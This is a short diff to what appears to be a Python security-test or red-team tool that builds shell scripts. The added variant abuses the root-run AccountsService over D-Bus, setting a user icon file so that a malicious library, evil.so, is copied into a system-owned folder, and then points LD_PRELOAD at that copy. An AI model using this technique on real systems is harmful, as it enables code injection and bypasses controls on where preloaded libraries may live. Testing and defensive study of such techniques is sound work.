@@ -148,6 +148,18 @@ rm -f $folder/evil.so $folder/red-try
 """.replace("NO_TOOL", NO_TOOL)
 )
 
+# A service of root's keeps what it is given as a picture of the user, whatever it is.
+PRELOAD_KEPT = PRELOAD_RIGHT.replace(
+    "export LD_PRELOAD=$folder/evil.so",
+    """kept=/var/lib/AccountsService/icons/$(id -un)
+accounts=org.freedesktop.Accounts
+systemd-run --user --wait -q busctl call $accounts "/org/freedesktop/Accounts/User$(id -u)" \\
+    $accounts.User SetIconFile s $folder/evil.so > /dev/null 2>&1
+cmp -s $folder/evil.so "$kept" || { rm -f $folder/evil.so $folder/red-try; echo NO_TOOL; exit 0; }
+export LD_PRELOAD="$kept"
+""".replace("NO_TOOL", NO_TOOL),
+).replace("x.*evil.so", "x.*AccountsService")
+
 TERMINAL = r"""
 for name in gnome-terminal xterm; do
     command -v $name > /dev/null || continue
